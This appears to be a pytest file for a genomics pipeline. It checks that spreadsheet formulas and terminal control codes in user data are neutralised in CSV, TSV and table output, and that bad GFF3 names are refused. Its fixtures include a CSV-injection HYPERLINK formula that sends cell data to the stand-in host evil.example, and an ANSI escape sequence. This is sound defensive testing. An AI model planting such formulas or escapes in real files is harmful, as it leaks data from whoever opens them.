"""A user's file never reaches an admin's spreadsheet as a formula or a terminal as control codes
(issue 31, item 4): CSV, TSV, tables and variants.tsv neutralise them; annotation names with
control characters are refused with a reason that names the line, not a worker's folder."""

from __future__ import annotations

import csv
import io
import shutil
from pathlib import Path

import pysam
import pytest

from gems.errors import InputError
from gems.jobs.run_table import to_tsv
from gems.safetext import for_spreadsheet, for_terminal
from lake.output import render
from workers.genomics.gff import read_gff3
from workers.pipeline.annotate import TSV_COLUMNS, annotate_vcf

DATA = Path(__file__).resolve().parents[1] / "data" / "annotation"
CONTIG = "chr22_16570000_16610000"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
ESCAPE = "\x1b]0;owned\x07\x1b[2J"


@pytest.mark.parametrize("start", ["=", "+", "-", "@", " =", "\t="])
def test_formula_cells_are_quoted_but_numbers_stay_numbers(start):
    safe = for_spreadsheet(start + "SUM(A1:A9)")
    assert safe.startswith("'") or safe.startswith("\\x09")  # a tab is shown, not kept
    for number in ("-1.5", "+3", "-0", "1e-5", "-", "TP53", "c.-14A>G", "p.V600E"):
        assert for_spreadsheet(number) == number


def test_terminal_text_shows_control_characters_as_escapes():
    shown = for_terminal(ESCAPE + "\u202eevil\x9b")
    assert shown == "\\x1b]0;owned\\x07\\x1b[2J\\u202eevil\\x9b"
    assert all(c.isprintable() for c in shown)


def test_gems_lake_output_csv_and_table_are_safe():
    rows = [("S1", FORMULA, -1.5), ("S2", "TP53" + ESCAPE, 2.0)]
    text = render(["sample", "gene", "score"], rows, "csv")
    parsed = list(csv.reader(io.StringIO(text)))
    assert parsed[1] == ["S1", "'" + FORMULA, "-1.5"]
    assert "\x1b" not in text and parsed[2][1] == "TP53\\x1b]0;owned\\x07\\x1b[2J"
    table = render(["sample", "gene", "score"], rows, "table")
    assert "\x1b" not in table and "\x07" not in table and "\\x1b[2J" in table
    assert render(["gene"], [(FORMULA,)], "json").count("HYPERLINK") == 1  # JSON keeps the value


def test_the_run_table_tsv_is_safe():
    t = {
        "hla_genes": [],
        "samples": [
            dict.fromkeys(("sample", "status", "reason"), "")
            | {
                "sample": "S1",
                "status": "FAILED",
                "reason": FORMULA + "\t\n" + ESCAPE,
                "report_url": "",
                "hla": {},
            }
        ],
    }
    from gems.jobs import run_table

    t["samples"][0] |= {c: t["samples"][0].get(c, "") for c in run_table.FIXED}
    lines = to_tsv(t).splitlines()
    assert len(lines) == 2 and "\x1b" not in lines[1]
    assert lines[1].split("\t")[2].startswith("'" + FORMULA)


def _gff_with(tmp_path: Path, name: str) -> Path:
    text = (DATA / f"{CONTIG}.ensembl.gff3").read_text()
    gff = tmp_path / "genes.gff3"
    gff.write_text(text.replace("Name=CCT8L2;", f"Name={name};"))
    return gff


def test_a_formula_gene_name_reaches_variants_tsv_quoted(tmp_path):
    gff = _gff_with(tmp_path, FORMULA.replace(",", "%2C").replace(";", "%3B").replace("=", "%3D"))
    vcf = tmp_path / "variants.vcf.gz"
    shutil.copy(DATA / "NA12878_GIAB_truth.local.vcf.gz", vcf)
    shutil.copy(str(DATA / "NA12878_GIAB_truth.local.vcf.gz") + ".tbi", str(vcf) + ".tbi")
    tsv = tmp_path / "variants.tsv"
    with pysam.FastaFile(str(DATA / f"{CONTIG}.fa")) as fa:
        annotate_vcf(vcf, read_gff3(gff), fa, tsv)
    rows = [dict(zip(TSV_COLUMNS, ln.split("\t"), strict=True)) for ln in tsv.read_text().splitlines()[1:]]
    genes = {r["gene"] for r in rows}
    assert "'" + FORMULA in genes and FORMULA not in genes


@pytest.mark.parametrize(("escaped", "shown"), [("%09", "\\x09"), ("%0A", "\\x0a"), ("%1B[31m", "\\x1b[31m")])
def test_annotation_names_with_control_characters_are_refused_clearly(tmp_path, escaped, shown):
    gff = _gff_with(tmp_path, f"CCT8L2{escaped}")
    with pytest.raises(InputError) as err:
        read_gff3(gff)
    message = err.value.message
    assert message.startswith("genes.gff3 line ") and "attribute Name holds a control character" in message
    assert shown in message and str(tmp_path) not in message
    assert all(c.isprintable() for c in message)
